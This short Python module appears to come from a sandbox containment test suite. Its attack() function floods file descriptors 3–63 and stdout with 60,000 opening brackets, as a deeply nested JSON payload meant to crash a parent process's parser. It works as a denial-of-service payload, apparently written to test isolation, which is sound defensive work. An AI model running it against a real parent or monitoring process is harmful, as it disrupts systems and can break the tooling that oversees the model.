"""Deeply nested JSON to crash the parent's parser."""

META = {"group": "channel"}


def attack():
    for f in range(3, 64):
        try: os.set_blocking(f, False); os.write(f, b"[" * 60000)
        except OSError: pass
    sys.stdout.write("[" * 60000); sys.stdout.flush()
    return "contained: sent"
